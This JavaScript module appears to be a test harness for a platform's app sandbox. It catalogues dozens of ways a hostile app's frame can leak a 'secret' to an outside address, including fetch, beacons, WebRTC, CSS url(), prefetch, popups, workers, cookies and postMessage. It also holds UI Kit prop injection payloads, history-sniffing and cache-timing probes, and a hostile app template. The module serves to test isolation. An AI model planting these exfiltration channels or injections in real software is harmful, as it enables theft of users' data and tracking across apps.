// The ways out of a page, each as a function that a hostile app runs in its own frame.
// `to` is an address whose host name is the attempt's own; `udp` a port that listens for
// datagrams; `near` are addresses on this machine's origins.
export const channels = {
  fetch: (to) => fetch(to + '/?d=secret', { mode: 'no-cors' }),
  'fetch keepalive': (to) => fetch(to + '/?d=secret', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'secret' }),
  XMLHttpRequest: (to) => { const x = new XMLHttpRequest(); x.open('POST', to); x.send('secret'); },
  beacon: (to) => navigator.sendBeacon(to, 'secret'),
  EventSource: (to) => new EventSource(to),
  WebSocket: (to) => new WebSocket(to.replace('https:', 'wss:')),
  WebTransport: (to, udp) => new WebTransport(`https://${new URL(to).hostname}:${udp}/`),
  image: (to) => { new Image().src = to + '/i.png?d=secret'; },
  'image srcset': (to) => { const i = new Image(); i.srcset = to + '/i.png 1x'; document.body.append(i); },
  'CSS image': (to) => { document.body.style.backgroundImage = `url(${to}/b.png)`; },
  'CSS adopted sheet': (to) => { const s = new CSSStyleSheet(); s.replaceSync(`body{background:url(${to}/a.png)}`); document.adoptedStyleSheets = [s]; },
  'CSS import': (to) => { const l = document.createElement('style'); l.textContent = `@import url(${to}/s.css);`; document.head.append(l); },
  'CSS link': (to) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = to + '/s.css'; document.head.append(l); },
  font: (to) => { const f = new FontFace('f', `url(${to}/f.woff2)`); document.fonts.add(f); return f.load(); },
  video: (to) => { const v = document.createElement('video'); v.src = to + '/v.mp4'; v.poster = to + '/p.png'; document.body.append(v); v.load(); },
  track: (to) => { const v = document.createElement('video'), t = document.createElement('track'); v.crossOrigin = 'anonymous'; t.default = true; t.src = to + '/t.vtt'; v.append(t); document.body.append(v); t.track.mode = 'showing'; },
  script: (to) => { const s = document.createElement('script'); s.src = to + '/s.js'; document.head.append(s); },
  'module import': (to) => { const s = document.createElement('script'); s.type = 'module'; s.src = to + '/m.js'; document.head.append(s); return import(to + '/n.js'); },
  prefetch: (to) => { const l = document.createElement('link'); l.rel = 'prefetch'; l.href = to + '/p'; document.head.append(l); },
  prerender: (to) => { const l = document.createElement('link'); l.rel = 'prerender'; l.href = to + '/p'; document.head.append(l); },
  preconnect: (to) => { const l = document.createElement('link'); l.rel = 'preconnect'; l.href = to; document.head.append(l); },
  'dns-prefetch': (to) => { const l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = to; document.head.append(l); },
  'dns-prefetch of a link': (to) => {
    const m = document.createElement('meta'); m.httpEquiv = 'x-dns-prefetch-control'; m.content = 'on'; document.head.append(m);
    const a = document.createElement('a'); a.href = to; a.textContent = 'x'; document.body.append(a);
  },
  preload: (to) => { for (const as of ['image', 'script', 'fetch']) { const l = document.createElement('link'); l.rel = 'preload'; l.as = as; l.href = to + '/' + as; document.head.append(l); } },
  modulepreload: (to) => { const l = document.createElement('link'); l.rel = 'modulepreload'; l.href = to + '/m.js'; document.head.append(l); },
  manifest: (to) => { const l = document.createElement('link'); l.rel = 'manifest'; l.href = to + '/m.json'; document.head.append(l); },
  'speculation rules': (to) => {
    const s = document.createElement('script'); s.type = 'speculationrules';
    s.textContent = JSON.stringify({ prefetch: [{ urls: [to + '/s'], eagerness: 'immediate' }], prerender: [{ urls: [to + '/t'], eagerness: 'immediate' }] });
    document.head.append(s);
  },
  'form post': (to) => { const f = document.createElement('form'); f.method = 'post'; f.action = to; document.body.append(f); f.submit(); },
  'form to a popup': (to) => { const f = document.createElement('form'); f.action = to; f.target = '_blank'; document.body.append(f); f.submit(); },
  'self-navigation': (to) => { location.href = to + '/?d=secret'; },
  'self-navigation by replace': (to) => { location.replace(to + '/?d=secret'); },
  'meta refresh': (to) => { const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + to; document.head.append(m); },
  'base and a relative request': (to) => { const b = document.createElement('base'); b.href = to + '/'; document.head.append(b); new Image().src = 'relative.png'; },
  popup: (to) => { window.open(to + '/?d=secret'); },
  'popup without opener': (to) => { window.open(to + '/?d=secret', '_blank', 'noopener'); },
  'popup of its own page': (to) => { const w = window.open('about:blank'); if (w) w.location = to; },
  'link to a new tab': (to) => { const a = document.createElement('a'); a.href = to; a.target = '_blank'; document.body.append(a); a.click(); },
  'link with ping': (to) => { const a = document.createElement('a'); a.href = '#x'; a.ping = to; document.body.append(a); a.click(); },
  download: (to) => { const a = document.createElement('a'); a.href = to + '/?d=secret'; a.download = 'x'; document.body.append(a); a.click(); },
  'top navigation': (to) => { top.location = to; },
  'parent navigation': (to) => { parent.location = to; },
  'javascript: link': (to) => { const a = document.createElement('a'); a.href = `javascript:location='${to}'`; document.body.append(a); a.click(); },
  frame: (to) => { const f = document.createElement('iframe'); f.src = to; document.body.append(f); },
  'srcdoc frame': (to) => { const f = document.createElement('iframe'); f.srcdoc = `<img src="${to}/i.png"><meta http-equiv=refresh content="0;url=${to}"><link rel=stylesheet href="${to}/s.css">`; document.body.append(f); },
  'blob: frame': (to) => { const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob([`<img src="${to}/i.png">`], { type: 'text/html' })); document.body.append(f); },
  'data: frame': (to) => { const f = document.createElement('iframe'); f.src = `data:text/html,<img src="${to}/i.png">`; document.body.append(f); },
  'new realm': (to) => { const f = document.createElement('iframe'); document.body.append(f); const w = f.contentWindow; w.fetch(to, { mode: 'no-cors' }).catch(() => {}); new w.Image().src = to + '/r.png'; },
  'object and embed': (to) => { for (const n of ['object', 'embed']) { const o = document.createElement(n); o[n === 'object' ? 'data' : 'src'] = to; document.body.append(o); } },
  worker: (to) => new Worker('worker.js#' + encodeURIComponent(to)),
  'blob: worker': (to) => new Worker(URL.createObjectURL(new Blob([`fetch('${to}', {mode: 'no-cors'})`], { type: 'text/javascript' }))),
  'shared worker': (to) => new SharedWorker('worker.js#' + encodeURIComponent(to)),
  'service worker': (to) => navigator.serviceWorker.register('service.js?to=' + encodeURIComponent(to)),
  worklet: (to) => CSS.paintWorklet.addModule(to + '/w.js'),
  WebRTC: async (to, udp) => {
    for (const host of [new URL(to).hostname, '127.0.0.1']) {
      const c = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}:${udp}` }] });
      c.createDataChannel('x');
      await c.setLocalDescription(await c.createOffer());
    }
  },
  'WebRTC in a new realm': async (to, udp) => {
    const f = document.createElement('iframe'); document.body.append(f);
    const c = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }] });
    c.createDataChannel('x');
    await c.setLocalDescription(await c.createOffer());
  },
  'SVG use': (to) => { document.body.insertAdjacentHTML('beforeend', `<svg><use href="${to}/u.svg#a"/><image href="${to}/i.png"/><filter id=f><feImage href="${to}/f.png"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>`); },
  'SVG foreignObject': (to) => { document.body.insertAdjacentHTML('beforeend', `<svg width=99 height=99><foreignObject width=99 height=99><img src="${to}/i.png"><iframe src="${to}"></iframe></foreignObject></svg>`); },
  'report endpoints': (to) => { new ReportingObserver(() => {}).observe(); const m = document.createElement('meta'); m.httpEquiv = 'Content-Security-Policy'; m.content = `img-src 'none'; report-uri ${to}; report-to x`; document.head.append(m); new Image().src = to + '/i.png'; },
  'fenced frame': (to) => { const f = document.createElement('fencedframe'); if (window.FencedFrameConfig) f.config = new FencedFrameConfig(to); document.body.append(f); },
  payment: (to) => { new PaymentRequest([{ supportedMethods: to }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment(); },
  'external protocol': (to) => { location.href = to.replace('https:', 'mailto:x@'); },
  // These reach no host: what is counted is whether it came to pass.
  clipboard: async () => { await navigator.clipboard.writeText('secret'); return 'came to pass'; },
  'cookie for siblings': () => { document.cookie = 'leak=1; domain=' + location.hostname.split('.').slice(1).join('.'); document.cookie = 'own=1'; return document.cookie ? 'came to pass' : ''; },
  opener: () => { if (opener) { opener.postMessage('secret', '*'); return 'came to pass'; } return ''; },
  // Another document of its own may do what this one may, and no more.
  'self-navigation to its own origin': (to) => { location.href = 'second.html#' + encodeURIComponent(to); },
  // Beside these stands a page of another app, which listens; it tells what it heard.
  'postMessage to siblings': async (to) => {
    for (let n = 0; n < 12; n++) {
      const seen = new Set([self]);
      (function walk(w) {
        if (seen.has(w)) return;
        seen.add(w);
        try { w.postMessage({ secret: to }, '*'); } catch { /* it is gone */ }
        for (let i = 0; i < w.length; i++) walk(w[i]);
      })(top);
      await new Promise((done) => setTimeout(done, 120));
    }
  },
  'storage shared with siblings': async (to) => {
    const channel = new BroadcastChannel(to);
    for (let n = 0; n < 12; n++) {
      channel.postMessage('secret');
      const name = new URL(to).hostname.replaceAll('.', '-');
      for (const keep of [() => localStorage.setItem(name, 'secret'), () => { document.cookie = `${name}=secret`; }, () => { document.cookie = `${name}=secret; domain=` + location.hostname.split('.').slice(1).join('.'); },
        () => { document.cookie = `${name}=secret; SameSite=None; Secure; domain=` + location.hostname.split('.').slice(1).join('.'); }, () => indexedDB.open(name), () => caches.open(name)]) {
        try { await keep(); } catch { /* not there */ }
      }
      await new Promise((done) => setTimeout(done, 120));
    }
  },
};

// beside are the ways for which another app's page stands in the same page of the product.
export const beside = new Set(['postMessage to siblings', 'storage shared with siblings', 'history of other installations', 'timing of other installations']);

// What may be reached where fetch.client (https and wss) and images are granted for the hosts:
// the ways that these two are made of, in whichever frame or worker of the app.
export const granted = new Set(['fetch', 'fetch keepalive', 'XMLHttpRequest', 'beacon', 'EventSource', 'WebSocket', 'WebTransport', 'link with ping', 'worker', 'shared worker', 'new realm', 'preload', 'prefetch',
  'image', 'image srcset', 'CSS image', 'CSS adopted sheet', 'video', 'srcdoc frame', 'blob: frame', 'data: frame', 'SVG use', 'SVG foreignObject', 'report endpoints', 'self-navigation to its own origin',
  'UI Kit: Image', 'UI Kit: Icon', 'UI Kit: FileCard', 'UI Kit: AdfRenderer', 'UI Kit: EmptyState', 'UI Kit: Avatar', 'UI Kit: Comment']);

// near are ways to places on this machine that belong to the platform or to another
// installation; what they reach is seen in the browser.
export const near = {
  'self-navigation to a sibling': (at) => { location.href = at.sibling + '?d=secret'; },
  'frame of a sibling': (at) => { const f = document.createElement('iframe'); f.src = at.sibling + '?d=secret'; document.body.append(f); },
  'fetch of a sibling': (at) => fetch(at.sibling + '?d=secret', { mode: 'no-cors' }),
  'self-navigation to a web trigger': (at) => { location.href = at.hook + '/?d=secret'; },
  'fetch of a web trigger': (at) => fetch(at.hook + '/?d=secret', { mode: 'no-cors' }),
  'image of a web trigger': (at) => { new Image().src = at.hook + '/?d=secret'; },
  'self-navigation to the platform': (at) => { location.href = at.ui + '/?d=secret'; },
  'fetch of the platform': (at) => fetch(at.ui + '/?d=secret', { mode: 'no-cors', credentials: 'include' }),
  'fetch of the control API': (at) => fetch(at.control + '/api/v1/whoami?d=secret', { mode: 'no-cors' }),
  // Whether it tells what was looked at from what was not, or finds another's addresses.
  'history of other installations': async (at) => {
    const link = (href) => { const a = document.createElement('a'); a.href = href; a.textContent = 'x'; document.body.append(a); return a; };
    const style = new CSSStyleSheet();
    style.replaceSync('a{color:rgb(1,2,3)}a:visited{color:rgb(4,5,6)}');
    document.adoptedStyleSheets = [style];
    await new Promise((done) => setTimeout(done, 300));
    const [seen, unseen] = [link(at.sibling), link(at.sibling + '?never')].map((a) => getComputedStyle(a).color);
    const named = performance.getEntries().some((e) => e.name.includes(new URL(at.sibling).host));
    let read = false;
    const around = [parent, parent.parent, top];
    for (const w of [...around]) for (let i = 0; i < w.length; i++) around.push(w[i]);
    for (const w of around) try { read ||= w !== self && w.history.length > 0; } catch { /* closed */ }
    return seen !== unseen || named || read ? 'came to pass' : '';
  },
  // What another installation loaded comes at once from the browser's own cache: who may load
  // it too, or learns how long it took, knows.
  'timing of other installations': async (at) => {
    const asset = new URL('dot.svg', at.sibling).href;
    const image = new Image();
    const loaded = await new Promise((done) => { image.onload = () => done(true); image.onerror = () => done(false); image.src = asset; setTimeout(done, 1200, false); });
    const timed = performance.getEntriesByName(asset).some((e) => e.responseEnd > 0 && e.responseStatus === 200);
    return loaded || timed ? 'came to pass' : '';
  },
};

const spelled = `[to, to.slice(6), to.slice(6).replaceAll('/', '\\\\'), to.replace('https', 'HTTPS'), 'javascript:location="' + to + '"']`;
const css = `(u) => ({ backgroundImage: 'url(' + u + ')', background: 'url(' + u + ')', backgroundColor: 'red; background: url(' + u + ')', listStyleImage: 'url(' + u + ')', cursor: 'url(' + u + '), auto', content: 'url(' + u + ')', maskImage: 'url(' + u + ')', borderImage: 'url(' + u + ') 1', fontFamily: 'x; src: url(' + u + ')', width: 'calc(1px); background: url(' + u + ')', ':hover': { background: 'url(' + u + ')' }, ['} body{background:url(' + u + ')} x']: { color: 'red' } })`;

// kit are the props of UI Kit that can hold an address or CSS: what an app draws (the code of
// its component, run in the sandbox), and what a renderer that believes it would make of that
// in a page, for comparison.
export const kit = {
  'UI Kit: Image': { draw: `all.map((u) => <Image src={u} srcSet={u} alt="x" />)`, believed: (to) => { new Image().src = to + '/i.png'; } },
  'UI Kit: Icon': { draw: `all.map((u) => <Icon glyph={u} src={u} url={u} label="x" primaryColor={'url(' + u + ')'} />)`, believed: (to) => { new Image().src = to + '/i.svg'; } },
  'UI Kit: Avatar': { draw: `all.map((u) => h('Avatar', { src: u, avatarUrl: u, name: 'x' }))`, believed: (to) => { new Image().src = to + '/a.png'; } },
  'UI Kit: User': { draw: `all.map((u) => <><User accountId={u} avatarUrl={u} picture={u} /><UserGroup accountIds={[u]} /></>)`, believed: (to) => { new Image().src = to + '/u.png'; } },
  'UI Kit: Link': { draw: `all.map((u) => <><Link href={u} openNewTab>x</Link><LinkButton href={u} target="_blank">x</LinkButton><Breadcrumbs><BreadcrumbsItem href={u} text="x" /></Breadcrumbs><Tag text="x" href={u} /></>)`, believed: (to) => { const a = document.createElement('a'); a.href = to; a.target = '_blank'; document.body.append(a); a.click(); } },
  'UI Kit: FileCard': { draw: `all.map((u) => <FileCard fileName="x" iconUrl={u} dataUri={u} thumbnailUrl={u} href={u} />)`, believed: (to) => { new Image().src = to + '/f.png'; } },
  'UI Kit: AdfRenderer': {
    draw: `all.map((u) => <AdfRenderer document={{ type: 'doc', version: 1, content: [{ type: 'mediaSingle', content: [{ type: 'media', attrs: { type: 'external', url: u } }] }, { type: 'media', attrs: { type: 'external', url: u } }, { type: 'blockCard', attrs: { url: u } }, { type: 'embedCard', attrs: { url: u } }, { type: 'paragraph', content: [{ type: 'inlineCard', attrs: { url: u } }, { type: 'emoji', attrs: { shortName: 'x', imageUrl: u } }, { type: 'text', text: 'x', marks: [{ type: 'link', attrs: { href: u } }, { type: 'backgroundColor', attrs: { color: 'url(' + u + ')' } }] }] }] }} />)`,
    believed: (to) => { new Image().src = to + '/m.png'; const f = document.createElement('iframe'); f.src = to; document.body.append(f); },
  },
  'UI Kit: Frame': { draw: `all.map((u) => <Frame resource={u} src={u} width={'1px;background:url(' + u + ')'} />)`, believed: (to) => { const f = document.createElement('iframe'); f.src = to; document.body.append(f); } },
  'UI Kit: xcss': { draw: `all.map((u) => <><Box xcss={(${css})(u)}>x</Box><Pressable xcss={(${css})(u)}>x</Pressable><Box backgroundColor={'url(' + u + ')'} style={{ background: 'url(' + u + ')' }}>x</Box></>)`, believed: (to) => { const s = new CSSStyleSheet(); s.replaceSync(`body{background:url(${to}/x.png)}`); document.adoptedStyleSheets = [s]; } },
  'UI Kit: EmptyState': { draw: `all.map((u) => <EmptyState header="x" imageUrl={u} />)`, believed: (to) => { new Image().src = to + '/e.png'; } },
  'UI Kit: Comment': { draw: `all.map((u) => <Comment author={<Link href={u}>x</Link>} avatar={<Image src={u} alt="x" />} content={u} />)`, believed: (to) => { new Image().src = to + '/c.png'; } },
  'UI Kit: messages': { draw: `all.map((u) => <><SectionMessage title="x" actions={[<SectionMessageAction href={u}>x</SectionMessageAction>]}><Text>x</Text></SectionMessage><ProgressTracker items={[{ id: 'x', label: 'x', href: u, status: 'visited', percentageComplete: 1 }]} />{h('ThreeLOPrompt', { authUrl: u, message: 'x' })}</>)`, believed: (to) => { const a = document.createElement('a'); a.href = to; document.body.append(a); a.click(); } },
  'UI Kit: elements of HTML': {
    draw: `all.map((u) => <>{h('img', { src: u, srcSet: u })}{h('iframe', { src: u, srcdoc: '<img src=' + u + '>' })}{h('script', { src: u })}{h('style', {}, '*{background:url(' + u + ')}')}{h('link', { rel: 'stylesheet', href: u })}{h('meta', { httpEquiv: 'refresh', content: '0;url=' + u })}{h('object', { data: u })}{h('Box', { as: 'img', src: u })}<Text dangerouslySetInnerHTML={{ __html: '<img src=' + u + '>' }}>x</Text></>)`,
    believed: (to) => { document.body.insertAdjacentHTML('beforeend', `<img src="${to}"><iframe src="${to}"></iframe><link rel=stylesheet href="${to}"><object data="${to}"></object>`); },
  },
};

/** kitApp is the hostile app of UI Kit: it draws what its place in the page tells it to. */
export const kitApp = `import React from 'react';
import ForgeReconciler, { AdfRenderer, Box, Breadcrumbs, BreadcrumbsItem, Comment, EmptyState, FileCard, Frame, Icon, Image, Link, LinkButton, Pressable, ProgressTracker, SectionMessage, SectionMessageAction, Tag, Text, User, UserGroup, useProductContext } from '@forge/react';
const h = React.createElement;
const ways = {
${Object.entries(kit).map(([name, { draw }]) => `  ${JSON.stringify(name)}: (all) => ${draw},`).join('\n')}
};
const App = () => {
  const { channel, to } = useProductContext()?.extension?.attack ?? {};
  const [on, go] = React.useState(false);
  React.useEffect(() => { go(true); }, []);
  if (!channel) return <Text>nothing yet</Text>;
  // A tree that is refused leaves the one before it.
  if (!on) return <Text>DREW {channel}</Text>;
  const all = (${spelled}).map((u) => u + '/?d=secret');
  return <><Text>DREW {channel}</Text>{ways[channel](all)}</>;
};
ForgeReconciler.render(<App />);
`;
